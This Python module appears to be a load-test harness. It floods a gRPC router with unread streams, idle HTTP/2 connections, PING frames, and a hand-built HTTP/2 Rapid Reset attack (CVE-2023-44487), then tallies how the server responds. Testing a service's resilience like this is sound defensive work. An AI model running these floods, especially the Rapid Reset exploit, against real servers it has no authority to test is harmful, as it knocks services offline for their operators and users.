"""Floods of a router by one client, each of which returns what became of it.

    unread        opens streams and reads none of them
    connections   opens connections, sends the HTTP/2 preface on each, and leaves them open
    resets        opens a stream and resets it immediately, again and again, on one connection (CVE-2023-44487)
    pings         sends PING frames on one connection

`count` is that of streams and connections; there are ten times as many resets and pings. Then they wait for `seconds`.
"""

from __future__ import annotations

import asyncio
import itertools
import struct
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Any

import grpc

from loadtest.scenarios.two_tenants import ANSWER_S, GREEDY
from tandem.v1 import generation_pb2

GENERATE = "/tandem.v1.GenerationService/Generate"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 1, 3, 4, 6, 7
FRAMES = {HEADERS: "HEADERS", RST_STREAM: "RST_STREAM", PING: "PING", GOAWAY: "GOAWAY"}
OFTEN = 10  # times `count`: resets and pings
AT_ONCE = 200  # connections that are being opened


async def unread(target: str, count: int, seconds: float) -> Counter[str]:
    asked = generation_pb2.GenerateRequest(
        token_ids={"ids": [5, 6, 7]}, sampling={"max_tokens": 900, "ignore_eos": True}
    )
    async with grpc.aio.insecure_channel(target) as channel:
        generate: Any = channel.unary_stream(
            GENERATE, request_serializer=generation_pb2.GenerateRequest.SerializeToString
        )
        calls = []
        for number in range(count):
            calls.append(generate(asked, metadata=(("authorization", f"Bearer {GREEDY}"),)))
            if number % AT_ONCE == 0:
                await asyncio.sleep(0)
        waiting = {asyncio.create_task(call.code()) for call in calls}
        ended, waiting = await asyncio.wait(waiting, timeout=ANSWER_S, return_when=asyncio.FIRST_COMPLETED)
        while waiting and ended:  # until none has ended for so long
            ended, waiting = await asyncio.wait(waiting, timeout=seconds, return_when=asyncio.FIRST_COMPLETED)
        codes = [(await call.code()).name if call.done() else "left open" for call in calls]
        for call in calls:
            call.cancel()
    return Counter(codes)


async def connections(target: str, count: int, seconds: float) -> Counter[str]:
    host, port = target.rsplit(":", 1)
    outcomes: Counter[str] = Counter()
    places = asyncio.Semaphore(AT_ONCE)
    writers = []

    async def connect() -> None:
        async with places:
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(host, int(port)), ANSWER_S)
                writers.append(writer)
                writer.write(PREFACE + frame(SETTINGS))
                answered = await asyncio.wait_for(reader.read(9), ANSWER_S)
                outcomes["answered" if answered else "closed"] += 1
            except TimeoutError:
                outcomes["not answered"] += 1
            except OSError as error:
                outcomes[type(error).__name__] += 1

    await asyncio.gather(*(connect() for _ in range(count)))
    await asyncio.sleep(seconds)
    for writer in writers:
        writer.close()
    return outcomes


async def resets(target: str, count: int, seconds: float) -> Counter[str]:
    block = b"\x83\x86" + literal(4, GENERATE.encode()) + literal(1, b"x")
    block += literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
    block += literal(b"authorization", f"Bearer {GREEDY}".encode())
    streams = itertools.count(1, 2)

    def message() -> bytes:
        number = next(streams)
        return frame(HEADERS, block, 4, number) + frame(RST_STREAM, struct.pack(">I", 8), 0, number)

    return await sent_on_one(target, message, count * OFTEN, seconds)


async def pings(target: str, count: int, seconds: float) -> Counter[str]:
    return await sent_on_one(target, lambda: frame(PING, bytes(8)), count * OFTEN, seconds)


async def sent_on_one(target: str, message: Callable[[], bytes], count: int, seconds: float) -> Counter[str]:
    """So often, in batches, on one connection. Counts what is sent, and the frames that come back until it closes."""
    host, port = target.rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(PREFACE + frame(SETTINGS))
    outcomes: Counter[str] = Counter()

    async def answers() -> None:
        while True:
            head = await reader.readexactly(9)
            body, kind = await reader.readexactly(int.from_bytes(head[:3], "big")), head[3]
            why = body[8:].decode(errors="replace") if kind == GOAWAY else ""
            outcomes[f"{FRAMES.get(kind, 'other frames')} {why}".strip()] += 1

    reading = asyncio.create_task(answers())
    try:
        for first in range(0, count, 100):
            writer.write(b"".join(message() for _ in range(min(100, count - first))))
            async with asyncio.timeout(seconds):
                await writer.drain()
            await asyncio.sleep(0)
            outcomes["sent"] += min(100, count - first)
    except TimeoutError:
        outcomes["not taken"] += 1
    except OSError:
        pass  # the reader sees it, too
    done, _ = await asyncio.wait([reading], timeout=seconds)
    outcomes["closed" if done else "left open"] += 1
    reading.cancel()
    await asyncio.gather(reading, return_exceptions=True)
    writer.close()
    return outcomes


def frame(kind: int, body: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    """Of HTTP/2 (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def literal(name: int | bytes, value: bytes) -> bytes:
    """A header without indexing (RFC 7541, section 6.2.2), its name by its number in the static table."""
    named = bytes([name]) if isinstance(name, int) else b"\0" + bytes([len(name)]) + name
    return named + bytes([len(value)]) + value


FLOODS: dict[str, Callable[[str, int, float], Awaitable[Counter[str]]]] = {
    "unread": unread,
    "connections": connections,
    "resets": resets,
    "pings": pings,
}
